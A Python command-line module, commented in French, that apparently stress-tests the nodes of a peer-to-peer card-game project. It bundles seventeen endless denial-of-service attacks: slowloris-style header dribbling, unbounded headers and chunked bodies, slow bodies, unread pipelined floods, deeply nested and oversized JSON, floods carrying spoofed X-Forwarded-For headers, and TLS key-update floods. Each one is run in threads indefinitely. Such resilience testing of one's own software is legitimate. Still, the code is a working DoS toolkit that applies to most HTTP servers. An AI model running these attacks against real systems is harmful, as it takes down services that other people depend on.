"""Ce qu'un étranger peut faire à un nœud : sans clé, sans siège, avec un réseau rapide.

    python -m campagnes.attaques_etrangeres NOM URL…

L'attaque dure jusqu'à ce qu'on la tue. Elle n'emploie que des prises : rien de ce que le projet
s'interdit ne doit la retenir.
"""

from __future__ import annotations

import collections
import contextlib
import itertools
import json
import os
import socket
import ssl
import sys
import time
from collections.abc import Callable, Iterator
from threading import Thread
from typing import Final, TypeAlias
from urllib.parse import urlsplit

from campagnes.sous_le_tls import changements_de_cle

Attaque: TypeAlias = Callable[[str], None]
"""Une attaque contre l'adresse d'un nœud, une fois ; on la recommence sans fin."""

DELAI: Final = 5.0
FILS: Final = 4
"""Les fils qui mènent une même attaque contre un même nœud."""
PRISES: Final = 64
"""Les connexions qu'un fil tient à la fois."""


# --- Les prises -------------------------------------------------------------------------------


def brute(url: str) -> socket.socket:
    """Une connexion TCP, rien de plus."""
    parties = urlsplit(url)
    assert parties.hostname is not None
    return socket.create_connection((parties.hostname, parties.port or 0), DELAI)


def prise(url: str) -> socket.socket:
    """Une connexion où l'on peut parler HTTP, chiffrée s'il le faut."""
    nue = brute(url)
    if not url.startswith("https:"):
        return nue
    naif = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    naif.check_hostname, naif.verify_mode = False, ssl.CERT_NONE
    try:
        return naif.wrap_socket(nue)
    except OSError:
        nue.close()
        raise


@contextlib.contextmanager
def plusieurs(url: str, ouvrir: Callable[[str], socket.socket]) -> Iterator[list[socket.socket]]:
    """Autant de connexions que le nœud en laisse ouvrir."""
    prises: list[socket.socket] = []
    try:
        with contextlib.suppress(OSError):
            while len(prises) < PRISES:
                prises.append(ouvrir(url))
        yield prises
    finally:
        for une in prises:
            une.close()


def requete(methode: str, chemin: str, corps: bytes = b"", *entetes: str) -> bytes:
    lignes = [f"{methode} {chemin} HTTP/1.1", "host: x", *entetes]
    lignes += ["content-type: application/json", f"content-length: {len(corps)}", "", ""]
    return "\r\n".join(lignes).encode() + corps


# --- Tenir des connexions ---------------------------------------------------------------------


def silences(url: str) -> None:
    """Des connexions muettes, gardées ouvertes."""
    with plusieurs(url, brute):
        time.sleep(30)


def va_et_vient(url: str) -> None:
    """Des connexions ouvertes puis coupées, sans relâche, poignée de main comprise."""
    prise(url).close()


def gouttes(url: str) -> None:
    """Des en-têtes donnés octet par octet."""
    with plusieurs(url, prise) as prises:
        for une in prises:
            une.sendall(b"GET /tete HTTP/1.1\r\n")
        for _ in range(60):
            time.sleep(0.5)
            for une in prises:
                with contextlib.suppress(OSError):
                    une.sendall(b"x")


def flux(url: str) -> None:
    """Des flux d'événements, tenus ouverts."""
    with plusieurs(url, prise) as prises:
        for une in prises:
            with contextlib.suppress(OSError):
                une.sendall(requete("GET", "/evenements"))
        time.sleep(30)


def sans_lire(url: str) -> None:
    """Mille questions à la file, dont on ne lit aucune réponse."""
    with plusieurs(url, prise) as prises:
        for une in prises:
            une.settimeout(0.1)
            with contextlib.suppress(OSError):
                une.sendall(requete("GET", "/openapi.json") * 1000)
        time.sleep(20)


# --- Faire avaler -----------------------------------------------------------------------------


def entetes_sans_fin(url: str) -> None:
    with prise(url) as une:
        une.sendall(b"GET /tete HTTP/1.1\r\n")
        for rang in itertools.count():
            une.sendall(b"x-%d: %s\r\n" % (rang, b"a" * 60_000))


def un_entete_sans_fin(url: str) -> None:
    with prise(url) as une:
        une.sendall(b"GET /tete HTTP/1.1\r\nx: ")
        while True:
            une.sendall(b"a" * 65_536)


def rallonges(url: str) -> None:
    """Un corps en morceaux, suivi d'en-têtes sans fin."""
    with prise(url) as une:
        une.sendall(b"POST /accuse HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\n\r\n")
        une.sendall(b"1\r\n{\r\n0\r\n")
        for rang in itertools.count():
            une.sendall(b"x-%d: %s\r\n" % (rang, b"a" * 60_000))


def corps_sans_fin(url: str) -> None:
    with prise(url) as une:
        une.sendall(b"POST /accuse HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\n\r\n")
        while True:
            une.sendall(b"10000\r\n" + b" " * 65_536 + b"\r\n")


def corps_lents(url: str) -> None:
    """Des corps dont il manque toujours le dernier octet."""
    corps = b"{" + b" " * 500_000
    with plusieurs(url, prise) as prises:
        for une in prises:
            une.settimeout(0.2)
            with contextlib.suppress(OSError):
                une.sendall(requete("POST", "/accuse", corps)[:-1])
        time.sleep(20)


# --- Sous HTTP --------------------------------------------------------------------------------


def cles_sans_fin(url: str) -> None:
    """Une poignée de main, puis des changements de clé ; en clair, des octets au hasard."""
    if url.startswith("https:"):
        collections.deque(changements_de_cle(brute(url)), maxlen=0)
    else:
        with brute(url) as une:
            une.sendall(os.urandom(65_536))


# --- Faire travailler -------------------------------------------------------------------------


def _demander(url: str, octets: bytes) -> None:
    with prise(url) as une:
        une.sendall(octets)
        while une.recv(65_536):
            pass


def zeros(url: str) -> None:
    """Un demi-mégaoctet de zéros, là où l'on attend une courte liste."""
    corps = b"[" + b"0," * 260_000 + b"0]"
    for chemin in ("/nouvelles", "/preuve", "/invite", "/action"):
        _demander(url, requete("POST", chemin, corps, "connection: close"))


def profond(url: str) -> None:
    _demander(url, requete("POST", "/nouvelles", b"[" * 500_000, "connection: close"))


def faux_signes(url: str) -> None:
    """De gros mots bien formés, signés de personne."""
    corps = json.dumps({"octets": "W1tb" * 99_000, "signature": "A" * 88}).encode()
    for chemin in ("/action", "/salle/rejoindre", "/synchroniser_joueurs_et_demarrer"):
        _demander(url, requete("POST", chemin, corps, "connection: close"))


def _rafale(url: str, *entetes: str) -> None:
    questions = requete("GET", "/etat_du_jeu", b"", *entetes) * 20
    questions += requete("POST", "/demande", b'{"octets": "e30=", "signature": ""}', *entetes) * 20
    with prise(url) as une:
        une.settimeout(1.0)
        while True:
            une.sendall(questions)
            une.recv(65_536)


def rafale(url: str) -> None:
    _rafale(url)


def rafale_masquee(url: str) -> None:
    """La même, où chaque connexion se dit relayée pour une autre adresse."""
    octets = os.urandom(3)
    _rafale(url, f"x-forwarded-for: 10.{octets[0]}.{octets[1]}.{octets[2]}")


def invitations(url: str) -> None:
    """Des invitations à d'autres tables, sans relâche."""
    cle = "3b6a27bcceb6a42d62a3a8d02a6f0d73653215771de243a63ac048a18b59da29"
    hote = {"nom": "Zoé", "cle": cle, "adresse": "http://127.0.0.1:9"}
    corps = {"partie": os.urandom(6).hex(), "jeu": "belote", "hote": hote}
    _demander(url, requete("POST", "/invite", json.dumps(corps).encode(), "connection: close"))


ATTAQUES: Final[dict[str, Attaque]] = {
    attaque.__name__: attaque
    for attaque in (
        silences,
        va_et_vient,
        gouttes,
        flux,
        sans_lire,
        entetes_sans_fin,
        un_entete_sans_fin,
        rallonges,
        corps_sans_fin,
        corps_lents,
        cles_sans_fin,
        zeros,
        profond,
        faux_signes,
        rafale,
        rafale_masquee,
        invitations,
    )
}


def mener(attaque: Attaque, url: str) -> None:
    """La même attaque, sans fin ; un nœud qui raccroche n'y change rien."""
    while True:
        with contextlib.suppress(OSError):
            attaque(url)
        time.sleep(0.001)  # laisse leur tour aux autres fils


def main(arguments: list[str]) -> None:
    attaque, urls = ATTAQUES[arguments[0]], arguments[1:]
    for url in urls:
        for _ in range(FILS):
            Thread(target=mener, args=(attaque, url), daemon=True).start()
    print("lancée", flush=True)
    time.sleep(3600)


if __name__ == "__main__":
    main(sys.argv[1:])
